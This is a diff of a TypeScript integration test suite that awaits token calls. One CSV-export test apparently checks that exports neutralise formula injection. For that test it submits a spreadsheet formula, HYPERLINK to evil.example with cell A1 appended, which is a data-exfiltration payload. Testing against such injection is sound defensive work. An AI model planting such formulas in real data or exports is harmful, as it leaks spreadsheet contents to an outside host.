@@ -13,7 +13,7 @@ type CaseBody = { caseId: string; caseNo: string; windowId: string; version: num
 
 beforeAll(async () => {
   stack = await startStack('sanmen', { projections: true });
-  admin = api(stack.url, stack.token('admin'));
+  admin = api(stack.url, await stack.token('admin'));
 });
 afterAll(async () => stack.close());
 
@@ -156,7 +156,7 @@ describe('CSV exports', () => {
     await settle(async () => (await admin.get<{ caseId: string }[]>('/rectifications', clock('2026-11-05', '11:00'))).body.some((r) => r.caseId === c.caseId));
     const formula = '=HYPERLINK("http://evil.example/?x="&A1,"回访")';
     expect((await admin.post('/callbacks/lists/2026-11-06', { staff: [formula] }, clock('2026-11-06', '07:30'))).status).toBe(201);
-    const csv = await fetch(`${stack.url}/callbacks?date=2026-11-06&format=csv`, { headers: { authorization: `Bearer ${stack.token('callback')}`, ...clock('2026-11-06', '08:00') } });
+    const csv = await fetch(`${stack.url}/callbacks?date=2026-11-06&format=csv`, { headers: { authorization: `Bearer ${await stack.token('callback')}`, ...clock('2026-11-06', '08:00') } });
     const text = await csv.text();
     expect(text).toContain(c.caseNo);
     const cells = text.split(/\r\n/).flatMap((line) => line.split(','));
